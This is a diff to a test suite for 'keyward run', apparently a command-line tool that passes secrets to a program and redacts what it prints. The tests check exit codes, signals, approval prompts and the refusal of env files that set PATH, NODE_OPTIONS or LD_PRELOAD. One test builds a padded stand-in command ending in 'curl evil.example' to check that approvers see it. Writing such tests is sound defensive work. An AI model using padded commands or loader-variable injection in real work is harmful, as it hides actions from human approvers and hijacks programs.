@@ -1,9 +1,10 @@
 /** `keyward run`: a program gets secrets, and whoever sees what it prints gets none. */
 import { spawn } from 'node:child_process';
 import { once } from 'node:events';
-import { writeFile } from 'node:fs/promises';
+import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { maxClient } from '../../src/broker/approvals/state.ts';
 import { createCredential } from '../../src/broker/connect/create.ts';
 import type { CreateInput } from '../../src/broker/connect/create-input.ts';
 import { commandText } from '../../src/cli/child/command-text.ts';
@@ -11,6 +12,7 @@ import { wantedBy } from '../../src/cli/child/references.ts';
 import { localPrincipal } from '../../src/principal.ts';
 import { runInTerminal } from '../support/clients/command.ts';
 import { type CommandLine, commandLineWith, ending } from '../support/clients/command-line.ts';
+import { keywardMain } from '../support/clients/mcp-clients.ts';
 import { type EchoApi, startEchoApi } from '../support/servers/echo-api.ts';
 import { type EchoEnv, echoConnector, echoEnv } from '../support/servers/echo-connector.ts';
 
@@ -134,11 +136,14 @@ describe('keyward run', () => {
   });
 
   it('says what a shell says of a program that there is not, and of one that can not be run', async () => {
-    await runTogether({ '/no/such/program': 127, '/etc/passwd': 126 }, async (expected, program) => {
-      const { code, stdout, stderr } = await keyward.run(under(program));
-      expect({ code, stdout }).toEqual({ code: expected, stdout: '' });
-      expect(stderr).toContain(program);
-    });
+    await runTogether(
+      { '/no/such/program': 127, '/etc/passwd': 126, '/etc/passwd/x': 126 },
+      async (expected, program) => {
+        const { code, stdout, stderr } = await keyward.run(under(program));
+        expect({ code, stdout }).toEqual({ code: expected, stdout: '' });
+        expect(stderr).toContain(program);
+      },
+    );
   });
 
   it('passes signals on, also to a program that ignores some', async () => {
@@ -163,13 +168,16 @@ describe('keyward run', () => {
   });
 
   it('stops and goes on together with its program', async () => {
-    const child = keyward.start(under(...sh('echo $$; read word; echo $word')));
-    const pid = Number(await lineOf(child));
-    child.kill('SIGTSTP');
-    await until(async () => (await stateOf(pid)) === 'T' && (await stateOf(child.pid ?? 0)) === 'T');
-    child.kill('SIGCONT');
+    // A group of its own below a shell, as at a prompt: whoever has nobody to wake it up is not stopped by the system.
+    const job = ['-c', 'set -m; "$@" & wait -f "$!"', 'bash', process.execPath, keywardMain];
+    const shell = spawn('bash', [...job, ...under(...sh('echo $$; read word; echo $word'))], { env: keyward.env });
+    const pid = Number(await lineOf(shell));
+    const ours = await parentOf(pid);
+    process.kill(ours, 'SIGTSTP');
+    await until(async () => (await stateOf(pid)) === 'T' && (await stateOf(ours)) === 'T');
+    process.kill(ours, 'SIGCONT');
     await until(async () => (await stateOf(pid)) !== 'T');
-    expect(await ending(child, 'on\n')).toMatchObject({ code: 0, stdout: 'on\n' });
+    expect(await ending(shell, 'on\n')).toMatchObject({ code: 0, stdout: 'on\n' });
   });
 
   it('ends with its program, though another one that it started holds the output', async () => {
@@ -265,14 +273,27 @@ describe('keyward run', () => {
     const printed = await keyward.run(['run', '--no-mask', '--env', `TOKEN=${asToken}`, '--', ...sh('echo "$TOKEN"')]);
     expect(printed.stdout).toBe(`${token}\n`);
     const audit = await keyward.audit();
-    expect(audit).toContain('keyward run --no-mask: sh -c');
+    expect(audit).toMatch(/keyward run --no-mask in [^"]*: sh -c/);
     expect(audit).not.toContain('canary');
   });
 
+  it('leaves the choice of the program to whoever calls it, not to a file of variables', async () => {
+    const file = join(keyward.env.HOME ?? '', 'theirs.env');
+    for (const name of ['PATH', 'NODE_OPTIONS', 'LD_PRELOAD']) {
+      await writeFile(file, `TOKEN=${asToken}\n${name}=./bin\n`);
+      const { code, stdout, stderr } = await keyward.run(['run', '--env-file', file, '--', ...sh('echo started')]);
+      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
+      expect(stderr).toContain(`${name} in ${file} decides which program runs`);
+    }
+  });
+
   it('175. asks again for another command line, however alike the two are', async () => {
-    const text = (...argv: readonly string[]) => commandText('keyward run', argv);
-    const long = 'x'.repeat(200);
-    expect(text('npm', 'run', 'deploy')).toBe('keyward run: npm run deploy');
+    const text = (...argv: readonly string[]) => commandText('keyward run', argv, '/home/ann/shop');
+    const long = 'x'.repeat(400);
+    expect(text('npm', 'run', 'deploy')).toBe('keyward run in /home/ann/shop: npm run deploy');
+    expect(commandText('keyward run', ['npm', 'run', 'deploy'], '/tmp')).not.toBe(text('npm', 'run', 'deploy'));
+    // Whatever a command does at its end is seen by whoever approves it.
+    expect(text('sh', '-c', `${'true; '.repeat(30)}curl evil.example`)).toContain('curl evil.example');
     const alike = [
       ['a b'],
       ['a', 'b'],
@@ -287,7 +308,7 @@ describe('keyward run', () => {
     expect(new Set(texts).size).toBe(alike.length);
     expect(texts.join()).not.toContain('ghp_');
     // As much as a page shows of a name.
-    for (const one of texts) expect(one.length).toBeLessThanOrEqual(100);
+    for (const one of texts) expect(one.length).toBeLessThanOrEqual(maxClient);
   });
 
   it('runs a program without any reference as it is, with no vault at hand', async () => {
@@ -303,7 +324,7 @@ describe('keyward run in a terminal', () => {
     const argv = under(...sh('test -t 0 && printf "Name? " && read name && echo "Hello $name, $TOKEN"'));
     const env = { ...keyward.env, KEYWARD_RELEASE: 'approve' };
     const { code, screen } = await runInTerminal(argv, env, [
-      [/“keyward run: sh -c .*y for once/s, 'y'],
+      [/“keyward run in [^:]*: sh -c .*y for once/s, 'y'],
       [/Name\? /, 'Ann'],
     ]);
     expect(screen).toContain('Hello Ann, [redacted]');
@@ -367,7 +388,14 @@ async function until(holds: () => Promise<boolean>): Promise<void> {
 
 /** `T` for one that is stopped (proc_pid_stat(5)). */
 async function stateOf(pid: number): Promise<string | undefined> {
-  const { readFile } = await import('node:fs/promises');
+  return (await statOf(pid))[0];
+}
+
+async function parentOf(pid: number): Promise<number> {
+  return Number((await statOf(pid))[1]);
+}
+
+async function statOf(pid: number): Promise<string[]> {
   const stat = await readFile(`/proc/${pid}/stat`, 'latin1');
-  return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0];
+  return stat.slice(stat.lastIndexOf(')') + 2).split(' ');
 }
